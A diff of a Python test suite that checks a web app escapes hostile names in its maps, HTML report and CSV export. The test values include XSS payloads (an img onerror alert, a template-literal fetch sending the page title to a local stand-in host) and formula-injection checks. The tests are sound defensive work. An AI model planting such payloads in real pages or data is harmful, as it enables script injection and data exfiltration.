@@ -106,12 +106,10 @@ def test_operations_results_escape_the_site_in_flags_map_and_report(hostile, mon
     assert not at.exception, at.exception  # the report's static map drew the name (mathtext escaped)
     texts = markdown_texts(at)
     assert_inert(texts)
-    flags = [t for t in texts if "Pharmacy" in t and "near a pharmacy" in t]
-    assert flags and all(md(SITE) in t for t in flags), texts
     assert any(md(OPERATION) in c.value for c in at.caption)
     html = maps_html(at)
     assert_inert(html, MAP_FORBIDDEN)
-    assert any("127.0.0.1:9/site" in h for h in html)  # the flagged site is on the results map, as text
+    assert any("127.0.0.1:9/site" in h for h in html)  # the site in the catchment is on the results map, as text
 
 
 def test_data_page_caption_escapes_the_workspace_name(hostile, monkeypatch):
@@ -133,13 +131,12 @@ def test_results_report_and_csv_escape_names_and_formulas(hostile):
         ws.close()
     html = render_html(res, bcus=bcus)
     assert "<img src=x" not in html and "<script" not in html  # the page has no script at all
-    assert "Pharmacy ${fetch(&#x27;http://127.0.0.1:9/site?&#x27;+document.title)} &lt;img src=x" in html
     assert "Op *Beighton* ![x](http://127.0.0.1:9/op.png) &lt;img src=x onerror=alert(1)&gt;" in html
     table = pd.read_csv(io.StringIO(to_csv(res)), keep_default_na=False)
     text_cells = [v for c in table.columns for v in table[c] if isinstance(v, str)]
     assert not [v for v in text_cells if v and (v[0] in "=+@" or (v[0] == "-" and not v[1:2].isdigit()))]
     assert "'" + BCU in text_cells  # the cross-boundary table names the neighbouring BCU, neutralised
-    assert any("Pharmacy ${fetch" in v for v in text_cells)  # the CSV keeps the name itself
+    # (sites are not in the results CSV any more: the calibrated tables name rings, pieces and BCUs)
 
 
 def test_register_csv_neutralises_formula_notes(hostile):
